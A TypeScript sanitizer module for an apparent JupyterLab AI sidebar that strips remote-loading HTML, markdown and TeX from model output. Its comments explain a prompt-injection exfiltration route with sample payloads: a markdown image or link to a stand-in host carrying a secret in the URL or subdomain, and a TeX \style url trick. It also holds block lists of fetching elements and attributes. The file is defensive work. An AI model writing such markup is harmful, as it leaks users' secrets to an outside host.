/**
 * Rendered model and tool text loads nothing from another origin until the user clicks.
 *
 * A prompt-injected model can write `![x](https://evil.example/?q=SECRET)`: the moment the browser
 * renders it, the secret leaves in the image request, with no click. JupyterLab's sanitizer (a
 * sanitize-html allowlist) removes scripts and event handlers but keeps `<img src>`, `<video src
 * poster>`, `<audio src>`, `<input type=image src>` and inline `style` (with `background: url(...)`),
 * since notebooks show remote images on purpose. The sidebar is not a notebook: here every such URL
 * is judged after JupyterLab's sanitizer, in an inert document (a `DOMParser` document has no browsing
 * context, so nothing in it is fetched), and
 *
 * - an external image or media source becomes a link the user can click (its URL shown);
 * - same-origin URLs stay: relative paths (a plot the agent saved, `![](plot.png)`) are turned into
 *   the Jupyter server's `/files/...` URLs by rendermime's resolver, and they reach only the server
 *   this page already talks to, with the user's own session, so nothing leaves the machine's trust
 *   boundary; `data:` images stay (they load nothing);
 * - every attribute that fetches by itself (`srcset`, `poster`, `ping`, `background`, `style`, an
 *   `href` anywhere but on a link, ...) is dropped, and elements that fetch or navigate
 *   (`link`, `style`, `meta`, `base`, `iframe`, `object`, `svg`, ...) are removed, whatever the inner
 *   sanitizer let through — a second layer, not a trust in its configuration.
 *
 * The browser's own URL parser decides the origin (entities are decoded by the HTML parser first,
 * `//host` and `HTTPS:` are read as the browser would fetch them), so no regular expression guesses.
 */
import { IRenderMime } from '@jupyterlab/rendermime-interfaces';

/**
 * The words of the link that stands for content not loaded (the sidebar passes translated ones).
 */
export interface IRemoteLabels {
  /**
   * The text of the link standing for an external image at `url`.
   */
  image: (url: string) => string;
  /**
   * The text of the link standing for external audio or video at `url`.
   */
  media: (url: string) => string;
}

export const DEFAULT_REMOTE_LABELS: IRemoteLabels = {
  image: url => `External image, not loaded: ${url}`,
  media: url => `External media, not loaded: ${url}`
};

/**
 * Elements removed with their content: they fetch, navigate or restyle by being there.
 */
const REMOVED_ELEMENTS = new Set([
  'applet',
  'audio-worklet',
  'base',
  'embed',
  'frame',
  'frameset',
  'iframe',
  'image',
  'link',
  'math',
  'meta',
  'noscript',
  'object',
  'portal',
  'script',
  'style',
  'svg',
  'template'
]);

/**
 * Elements whose children stay but which go themselves (a form posts on a click the user may not
 * mean as "send").
 */
const UNWRAPPED_ELEMENTS = new Set(['form']);

/**
 * Attributes that fetch something by themselves, on any element.
 */
const FETCHING_ATTRIBUTES = new Set([
  'action',
  'archive',
  'background',
  'codebase',
  'data',
  'dynsrc',
  'formaction',
  'icon',
  'imagesrcset',
  'longdesc',
  'lowsrc',
  'manifest',
  'ping',
  'poster',
  'profile',
  'srcset',
  'style',
  'xlink:href'
]);

/**
 * Where `href` means "navigate when clicked" rather than "fetch now".
 */
const LINK_ELEMENTS = new Set(['a', 'area']);

/**
 * Elements whose `src` is an image (a `data:` image may stay on them).
 */
const IMAGE_ELEMENTS = new Set(['img', 'input']);

/**
 * `html` with nothing left that would fetch from another origin by itself.
 *
 * @param html - HTML already through JupyterLab's sanitizer (or any HTML: this does not rely on it).
 * @param labels - The words of the links that stand for what is not loaded.
 * @param pageUrl - The URL relative references resolve against (the page's).
 */
export function stripRemoteLoads(
  html: string,
  labels: IRemoteLabels = DEFAULT_REMOTE_LABELS,
  pageUrl: string = document.baseURI
): string {
  const doc = new DOMParser().parseFromString(
    `<!DOCTYPE html><html><head></head><body>${html}</body></html>`,
    'text/html'
  );
  const body = doc.body;
  // A static list: elements are replaced and removed while walking.
  for (const element of Array.from(body.querySelectorAll('*'))) {
    if (!body.contains(element)) {
      continue; // inside something already removed
    }
    cleanElement(element, labels, pageUrl);
  }
  return body.innerHTML;
}

function cleanElement(
  element: Element,
  labels: IRemoteLabels,
  pageUrl: string
): void {
  const tag = element.localName.toLowerCase();
  if (REMOVED_ELEMENTS.has(tag) || element.namespaceURI !== HTML_NS) {
    element.remove();
    return;
  }
  if (UNWRAPPED_ELEMENTS.has(tag)) {
    element.replaceWith(...Array.from(element.childNodes));
  }
  for (const attribute of Array.from(element.attributes)) {
    const name = attribute.name.toLowerCase();
    if (
      name.startsWith('on') ||
      name.startsWith('data-commandlinker') ||
      FETCHING_ATTRIBUTES.has(name) ||
      (name === 'href' && !LINK_ELEMENTS.has(tag)) ||
      /url\s*\(|image-set\s*\(|@import/i.test(attribute.value)
    ) {
      element.removeAttribute(attribute.name);
    }
  }
  if (LINK_ELEMENTS.has(tag)) {
    const href = element.getAttribute('href');
    if (href !== null && !isNavigable(href, pageUrl)) {
      element.removeAttribute('href');
    }
    return;
  }
  const src = element.getAttribute('src');
  if (src === null) {
    return;
  }
  const image = IMAGE_ELEMENTS.has(tag);
  if (loadsNothingRemote(src, pageUrl, image)) {
    return;
  }
  if (tag === 'source' || tag === 'track') {
    element.remove(); // its <video>/<audio> stands for it
    return;
  }
  element.replaceWith(
    remoteLink(
      element.ownerDocument,
      src,
      pageUrl,
      image ? labels.image : labels.media,
      element.getAttribute('alt') ?? ''
    )
  );
}

const HTML_NS = 'http://www.w3.org/1999/xhtml';

/**
 * Whether fetching `value` stays on this page's origin, or (for images) is a `data:` URL.
 */
function loadsNothingRemote(
  value: string,
  pageUrl: string,
  image: boolean
): boolean {
  const url = parse(value, pageUrl);
  if (!url) {
    return false;
  }
  if (url.protocol === 'data:') {
    return image && /^image\//i.test(url.pathname);
  }
  const page = parse(pageUrl, pageUrl);
  return (
    page !== null &&
    (url.protocol === 'http:' || url.protocol === 'https:') &&
    url.origin === page.origin
  );
}

/**
 * Whether a link to `value` may be followed on a click (web and mail links, same-origin paths).
 */
function isNavigable(value: string, pageUrl: string): boolean {
  const url = parse(value, pageUrl);
  return url !== null && ['http:', 'https:', 'mailto:'].includes(url.protocol);
}

function parse(value: string, base: string): URL | null {
  try {
    return new URL(value, base);
  } catch {
    return null;
  }
}

/**
 * A link that opens `src` on a click, showing the URL so the user sees where it goes.
 */
function remoteLink(
  doc: Document,
  src: string,
  pageUrl: string,
  label: (url: string) => string,
  alt: string
): HTMLElement {
  const url = parse(src, pageUrl);
  const shown = url ? url.href : src;
  const text = label(shown);
  if (!url || !isNavigable(shown, pageUrl)) {
    const span = doc.createElement('span');
    span.className = 'jp-hdsp-RemoteContent';
    span.textContent = text;
    return span;
  }
  const link = doc.createElement('a');
  link.className = 'jp-hdsp-RemoteContent';
  link.setAttribute('href', url.href);
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer');
  link.setAttribute('referrerpolicy', 'no-referrer');
  if (alt) {
    link.setAttribute('title', alt);
  }
  link.textContent = text;
  return link;
}

/**
 * Turn off the browser's DNS prefetching for the page. On an `http:` page (JupyterLab on
 * localhost) Chromium resolves the host of every link as it is inserted, so a link the model wrote,
 * `https://SECRET.evil.example/`, would send the secret to a DNS server with no click. The control
 * is per document and "off" cannot be turned on again, so one tag in `<head>` holds for the page.
 */
export function disableDnsPrefetch(doc: Document = document): void {
  if (doc.head.querySelector('meta[http-equiv="x-dns-prefetch-control"]')) {
    return;
  }
  const meta = doc.createElement('meta');
  meta.httpEquiv = 'x-dns-prefetch-control';
  meta.content = 'off';
  doc.head.prepend(meta);
}

/**
 * `inner` (JupyterLab's sanitizer) followed by `stripRemoteLoads`.
 */
export function withoutRemoteLoads(
  inner: IRenderMime.ISanitizer,
  labels: IRemoteLabels = DEFAULT_REMOTE_LABELS
): IRenderMime.ISanitizer {
  return {
    sanitize: (dirty, options) =>
      stripRemoteLoads(inner.sanitize(dirty, options), labels),
    getAutolink: () => inner.getAutolink?.() ?? true,
    allowNamedProperties: inner.allowNamedProperties,
    // A button in the model's text must not run a JupyterLab command.
    allowCommandLinker: false
  };
}

/**
 * `inner` (JupyterLab's MathJax) unable to set CSS: TeX's `\style{background:url(...)}{x}` (the
 * `html` package) would fetch the URL as soon as the formula is shown. `\style` becomes `\class`,
 * which takes the same two arguments and sets only a class name. `\style` cannot be spelled any other
 * way in MathJax's TeX (no `\csname`), and `\let\x\style` contains the text too.
 */
export function withoutTexStyles(
  inner: IRenderMime.ILatexTypesetter
): IRenderMime.ILatexTypesetter {
  return {
    typeset: (element: HTMLElement) => {
      neutralizeTexStyles(element);
      return inner.typeset(element);
    }
  };
}

export function neutralizeTexStyles(element: HTMLElement): void {
  const walker = element.ownerDocument.createTreeWalker(
    element,
    NodeFilter.SHOW_TEXT
  );
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const text = node.nodeValue ?? '';
    if (text.includes('\\style')) {
      node.nodeValue = text.replace(/\\style(?![A-Za-z])/g, '\\class');
    }
  }
}
